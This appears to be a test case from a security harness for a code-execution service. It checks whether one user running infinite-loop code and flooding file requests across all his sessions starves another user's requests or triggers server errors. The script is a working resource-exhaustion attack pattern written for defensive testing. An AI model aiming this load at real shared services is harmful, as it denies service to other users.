# attack: serve/every-thread-taken
# oracle: alive
# source: own
# note: bob runs endless code in all the sessions that he may have, waits for files and programs in them, and asks for more than he may
import concurrent.futures

import httpx


def attack(world):
    reached = []
    bob = {"Authorization": f"Bearer {world.bob}"}
    with httpx.Client(base_url=world.url, headers=bob, timeout=120, limits=httpx.Limits(max_connections=400)) as client:
        paths = [client.post("/v1/sessions", json={}).headers["Location"] for _ in range(2)]
        with concurrent.futures.ThreadPoolExecutor(200) as pool:
            runs = [pool.submit(client.post, f"{path}/runs", json={"code": "while True: pass"}) for path in paths for _ in range(20)]
            runs += [pool.submit(client.request, method, f"{path}/files{name}", content=b"x") for path in paths for _ in range(30) for method, name in (("GET", ""), ("PUT", "/f"), ("GET", "/f"))]
            with httpx.Client(base_url=world.url, headers={"Authorization": f"Bearer {world.alice}"}, timeout=60) as alice:
                for _ in range(5):
                    done = alice.post(f"/v1/sessions/{world.session}/runs", json={"code": "6 * 7"})
                    if done.status_code != 200 or done.json()["value"] != 42:
                        reached.append(("alice has to wait", done.text[:200]))
            for path in paths:
                client.delete(path)
            for run in runs:
                if run.result().status_code == 500:
                    reached.append(run.result().text)
    return reached
